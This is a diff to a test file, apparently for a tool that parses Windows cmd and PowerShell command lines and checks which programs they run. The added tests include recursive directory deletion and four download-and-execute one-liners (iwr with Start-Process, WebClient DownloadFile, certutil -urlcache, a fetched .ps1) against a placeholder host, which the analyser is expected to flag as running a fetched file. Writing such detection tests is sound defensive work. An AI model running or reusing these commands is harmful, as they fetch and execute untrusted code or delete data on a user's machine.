@@ -39,6 +39,7 @@ describe("cmd runs", () => {
     ['cmd /c "if not exist a (del b) else (del c)"', ["del|b)|else|(del|c)"]],
     ['cmd /c "@call rd /s x"', ["rd|/s|x"]],
     ["%ComSpec% /c del x", ["del|x"]],
+    ["cmd /c rmdir /s x", ["rd|/s|x"]],
     ['cmd /k "echo a | more"', ["echo|a", "more"]],
   ])("%s", (text, words) => expect(shown(text)).toEqual(words));
 
@@ -85,6 +86,17 @@ describe("PowerShell runs", () => {
     ).toMatchObject({ argv: ["iex"], upstream: ["iwr"] }));
 
   it("what stands on its standard input", () => expect(written("echo 'rm x' | powershell -").at(-1)).toBe("rm|x"));
+});
+
+describe("a file that PowerShell or cmd downloads and starts", () => {
+  it.each([
+    'powershell -c "iwr https://get.example/x.exe -OutFile x.exe; Start-Process .\\x.exe"',
+    "powershell -c \"$c = New-Object Net.WebClient; $c.DownloadFile('https://get.example/x.exe', 'x.exe'); & .\\x.exe\"",
+    'cmd /c "certutil -urlcache -f https://get.example/x.exe x.exe & x.exe"',
+    'cmd /c "powershell iwr https://get.example/x.ps1 -o x.ps1 & powershell -f x.ps1"',
+  ])("is known for one: %s", (text) =>
+    expect(understand({ kind: "script", text }).commands.at(-1)?.upstream).toContain("fetched-file"),
+  );
 });
 
 describe("other programs of Windows run", () => {
